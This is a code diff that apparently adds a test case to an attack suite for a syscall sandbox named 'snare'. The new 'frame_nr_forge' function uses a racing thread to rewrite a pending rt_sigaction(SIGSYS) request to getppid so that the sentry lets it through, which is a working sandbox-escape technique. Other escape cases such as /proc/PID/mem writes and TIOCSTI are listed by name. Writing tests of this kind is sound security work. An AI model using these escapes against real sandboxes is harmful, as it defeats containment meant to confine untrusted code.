@@ -18,6 +18,10 @@
 //   frame_toctou               a thread rewrites args[0] of another thread's rt_sigaction
 //                              (SIGUSR1 -> SIGSYS) after the sentry's reply (20000 calls,
 //                              repeated up to 10 times while the race is not won)
+//   frame_nr_forge             a thread rewrites the number of another thread's pending
+//                              rt_sigaction(SIGSYS, own handler) request to getppid, a call
+//                              the sentry passes unseen, before the sentry reads it (20000
+//                              calls, repeated up to 10 times while the race is not won)
 //   fake_header                points the stub's g_stub.header at a fake region whose frames
 //                              always answer "passthrough"; then rt_sigaction(SIGSYS)
 //   proc_mem                   writes a byte into snare's own processes via /proc/PID/mem
@@ -680,6 +684,54 @@ int FrameToctou() {
   return 0;
 }
 
+int FrameNrForge() {
+  if (!RegionPrologue()) return 0;
+  sys::Slot* slot = FindOwnSlot();
+  if (!slot) return 0;
+  Say("slot %u", SlotIndexOf(slot));
+  struct Shared {
+    sys::Frame* frame;
+    std::atomic<bool> stop{false};
+    std::atomic<long> rewrites{0};
+  } shared;
+  shared.frame = &slot->frames[0];
+  pthread_t rewriter;
+  auto body = [](void* arg) -> void* {
+    auto* s = static_cast<Shared*>(arg);
+    sys::Frame* f = s->frame;
+    while (!s->stop.load(std::memory_order_relaxed)) {
+      // The request is written and the sentry has not answered: it may not have read it yet.
+      if (sys::PhaseOf(__atomic_load_n(&f->state, __ATOMIC_ACQUIRE)) == sys::kFrameRequest &&
+          __atomic_load_n(&f->nr, __ATOMIC_RELAXED) == SYS_rt_sigaction &&
+          __atomic_load_n(&f->args[0], __ATOMIC_RELAXED) == SIGSYS) {
+        __atomic_store_n(&f->nr, uint32_t{SYS_getppid}, __ATOMIC_RELAXED);
+        s->rewrites.fetch_add(1, std::memory_order_relaxed);
+      }
+    }
+    return nullptr;
+  };
+  if (pthread_create(&rewriter, nullptr, body, &shared) != 0) {
+    Say("pthread_create failed");
+    return 0;
+  }
+  KernelSigaction act = OwnSigsysAction(reinterpret_cast<uint64_t>(&OwnRestorer));
+  constexpr int kRounds = 20000, kBatches = 10;
+  const time_t give_up = time(nullptr) + 10;
+  int round = 0;
+  for (int batch = 0; batch < kBatches && time(nullptr) < give_up && !g_own_ran; ++batch) {
+    // Emulated as a no-op while the sentry reads the call; if a rewrite wins, the next
+    // call traps into the own handler.
+    for (int i = 0; i < kRounds && !g_own_ran; ++i, ++round) {
+      syscall(SYS_rt_sigaction, SIGSYS, &act, nullptr, 8);
+    }
+  }
+  shared.stop = true;
+  pthread_join(rewriter, nullptr);
+  Say("%d rt_sigaction(SIGSYS) calls, %ld rewrites to getppid", round, shared.rewrites.load());
+  PlainSyscallCheck();
+  return 0;
+}
+
 int FakeHeader() {
   if (!RegionPrologue()) return 0;
   const uint64_t g_stub_addr = StubSymbol("_ZN5snare4stub6g_stubE", "6g_stubE");
@@ -961,6 +1013,7 @@ int main(int argc, char** argv) {
   if (attack == "selftest") return Selftest();
   if (attack == "frame_toctou") return FrameToctou();
   if (attack == "fake_header") return FakeHeader();
+  if (attack == "frame_nr_forge") return FrameNrForge();
   if (attack == "proc_mem") return ProcMem();
   if (attack == "tiocsti") return Tiocsti();
   if (attack == "tcooff") return Tcooff();
